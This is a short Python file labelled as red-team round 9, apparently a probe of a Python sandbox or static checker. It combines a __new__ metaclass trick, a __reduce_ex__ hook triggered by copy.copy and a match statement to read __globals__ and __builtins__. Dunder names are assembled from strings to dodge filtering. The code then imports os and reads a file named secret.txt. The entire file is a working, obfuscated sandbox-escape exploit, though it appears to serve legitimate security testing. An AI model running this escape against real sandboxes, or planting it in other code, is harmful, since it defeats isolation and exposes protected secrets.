# family: red team, round 9 (new_first_param_self_is_class)
# type(self) is trusted in any method whose first parameter is self and that is never read through its class.
# __new__ is called implicitly with the CLASS as its first argument: Base() returns type(Base), the metaclass.
import abc
import copy


class Base(abc.ABC):
    def __new__(self):
        return type(self)


def metaclass():
    return Base()


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def install(target, names):
    def reducer(self, protocol):
        return (lambda: target, (), (None, names))

    maker = metaclass()("R", (), {_d("reduce_ex"): reducer})
    copy.copy(maker())


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): classmethod(lambda c, sub: True), _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r9/work/secret.txt").read().strip()


print(run())
